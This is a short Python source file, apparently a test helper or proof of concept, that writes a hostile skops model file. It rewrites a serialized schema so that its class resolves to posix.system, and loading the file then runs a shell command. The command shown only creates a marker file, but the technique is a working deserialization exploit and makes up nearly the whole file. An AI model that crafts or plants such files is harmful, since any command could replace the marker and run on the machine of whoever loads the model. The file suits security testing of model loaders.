"""A model file that runs a command while it is loaded."""

import io
import json
import zipfile
from pathlib import Path

import skops.io
from sklearn._loss._loss import CyHalfPoissonLoss


def write_hostile(path: Path, marker: Path) -> None:
    """Write a skops file that runs `touch MARKER` as soon as somebody loads it who trusts `posix.system`."""
    parts = []
    for thing in (CyHalfPoissonLoss(), (f"touch {marker}",)):
        with zipfile.ZipFile(io.BytesIO(skops.io.dumps(thing))) as archive:
            parts.append(json.loads(archive.read("schema.json")))
    schema, arguments = parts
    schema |= {"__module__": "posix", "__class__": "system"}
    schema["__reduce__"]["args"] = arguments
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
